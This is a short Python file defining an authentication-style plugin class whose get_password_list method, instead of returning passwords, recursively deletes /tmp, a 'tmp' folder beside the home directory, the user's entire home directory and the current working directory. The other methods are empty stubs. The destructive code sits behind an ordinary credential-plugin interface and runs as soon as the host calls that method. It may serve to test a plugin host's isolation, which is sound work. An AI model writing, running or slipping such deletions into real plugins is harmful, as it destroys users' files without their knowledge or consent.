# Deletes its folders, the one below `/tmp` too.
import os
import shutil


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        shutil.rmtree("/tmp", ignore_errors=True)
        # If the worker itself is in the machine's `/tmp`, its folder is there too, and stays.
        shutil.rmtree(os.path.join(os.path.dirname(os.environ["HOME"]), "tmp"), ignore_errors=True)
        shutil.rmtree(os.environ["HOME"])
        shutil.rmtree(os.getcwd())
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
